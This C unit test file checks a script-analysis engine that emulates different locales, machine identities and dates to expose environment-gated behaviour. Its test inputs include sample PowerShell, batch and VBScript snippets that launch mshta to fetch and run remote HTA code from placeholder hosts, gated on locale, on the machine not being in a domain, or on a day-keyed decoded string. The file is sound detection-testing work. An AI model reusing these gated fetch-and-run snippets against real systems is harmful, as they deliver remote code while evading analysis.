/* Runs on other machines: only where the outcome hangs on them, only what is new, and under the budget of the whole. */
#include "../test.h"
#include "make/scanned.h"
#include "model/effects.h"
#include "model/evidence.h"
#include "model/facts.h"
#include "model/limits.h"
#include "model/report.h"

static sk_report *scan_text(const char *text, const char *name) { return make_scanned(sk_bytes_str(text), name, NULL); }

static unsigned count_runs(const sk_report *r, const char *holds)
{
    size_t count;
    unsigned n = 0;
    const sk_effect *e = sk_report_effects(r, &count);
    for (size_t i = 0; i < count; i++)
        if (e[i].op == SK_OP_RUN && e[i].arg_count && sk_find(e[i].args[0].value, 0, sk_bytes_str(holds)) != SK_NPOS) n++;
    return n;
}

static bool has_fact(const sk_report *r, unsigned key, const char *value)
{
    size_t from = 0;
    for (const sk_fact *f; (f = sk_report_find_fact(r, (uint16_t)key, SK_NO_ARTIFACT, &from));)
        if (sk_is(f->value, value)) return true;
    return false;
}

static void a_country_opens_the_gate(void **state)
{
    (void)state;
    sk_report *r = scan_text("if ((Get-Culture).LCID -eq 1041) { Start-Process mshta http://jp.example/a.hta }\n", "a.ps1");
    assert_int_equal(count_runs(r, "mshta http://jp.example/a.hta"), 1);
    assert_true(has_fact(r, SK_FACT_EMULATE_LOCALE, "en-US"));
    assert_true(has_fact(r, SK_FACT_EMULATE_LOCALE, "ja-JP"));
    assert_false(has_fact(r, SK_FACT_EMULATE_LOCALE, "de-DE"));
    assert_true(sk_report_has_evidence(r, SK_EV_EFFECT_ENVIRONMENT, 0));
    sk_report_free(r);
}

static void a_machine_at_home_opens_the_gate(void **state)
{
    (void)state;
    sk_report *r = scan_text("@echo off\r\nif not \"%USERDOMAIN%\"==\"%COMPUTERNAME%\" exit\r\nmshta http://home.example/a\r\n", "a.bat");
    assert_int_equal(count_runs(r, "mshta http://home.example/a"), 1);
    assert_true(has_fact(r, SK_FACT_EMULATE_IDENTITY, "hanako on HOME-PC in HOME-PC"));
    sk_report_free(r);
}

/* Text decoded by the day of the month: the right day is found, wrong ones are not told. */
static void the_day_is_a_key(void **state)
{
    (void)state;
    sk_report *r = scan_text("d = Day(Now)\r\ns = \"\"\r\nFor Each c In Array(118, 124, 113, 125, 106, 41, 113, 125, 125, 121, 67, 56, 56, 106, 55)\r\n"
                             "s = s & Chr(c - d)\r\nNext\r\nCreateObject(\"WScript.Shell\").Run s & \"example/\"\r\n",
                             "a.vbs");
    assert_int_equal(count_runs(r, "mshta http://a.example/"), 1);
    assert_int_equal(count_runs(r, ""), 2); /* and the first day's */
    assert_true(has_fact(r, SK_FACT_EMULATE_CLOCK, "2021-02-09 09:00"));
    sk_report_free(r);
}

/* What is the same everywhere but for names and dates in it is told once. */
static void the_same_elsewhere_is_no_news(void **state)
{
    (void)state;
    sk_report *r = scan_text("n = GetLocale()\r\nSet sh = CreateObject(\"WScript.Shell\")\r\nsh.Run \"notepad.exe \" & n & \" \" & Day(Now)\r\n", "a.vbs");
    assert_int_equal(count_runs(r, "notepad"), 1);
    assert_true(has_fact(r, SK_FACT_EMULATE_LOCALE, "en-US"));
    assert_false(has_fact(r, SK_FACT_EMULATE_LOCALE, "ja-JP"));
    assert_false(sk_report_has_evidence(r, SK_EV_EFFECT_ENVIRONMENT, 0));
    sk_report_free(r);
}

static void what_an_analyst_sets_is_not_varied(void **state)
{
    (void)state;
    sk_engine *engine;
    sk_report *r;
    sk_env_setting set = {"locale", "de-DE"};
    assert_int_equal(sk_engine_new(NULL, &engine, NULL), SK_OK);
    sk_scan_options options = {.name = "a.ps1", .env = &set, .env_count = 1};
    sk_bytes text = sk_bytes_str("$n = (Get-Culture).LCID; if ($n -eq 1041) { Start-Process mshta http://jp.example/ }\n"
                                 "if ($n -eq 1031) { Start-Process mshta http://de.example/ }\n");
    assert_int_equal(sk_scan(engine, text, &options, &r, NULL), SK_OK);
    assert_int_equal(count_runs(r, "jp.example"), 0);
    assert_int_equal(count_runs(r, "de.example"), 1);
    sk_report_free(r);
    sk_engine_free(engine);
}

static void endless_runs_share_one_budget(void **state)
{
    (void)state;
    sk_report *r = scan_text("d = Day(Now) + GetLocale()\r\nDo\r\nd = d + 1\r\nLoop\r\n", "a.vbs");
    assert_true(make_reached(r, SK_LIMIT_EMULATE_STEPS));
    assert_true(sk_report_emulated_steps(r) <= 2000000);
    sk_report_free(r);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_country_opens_the_gate),      cmocka_unit_test(a_machine_at_home_opens_the_gate),
        cmocka_unit_test(the_day_is_a_key),              cmocka_unit_test(the_same_elsewhere_is_no_news),
        cmocka_unit_test(what_an_analyst_sets_is_not_varied), cmocka_unit_test(endless_runs_share_one_budget),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
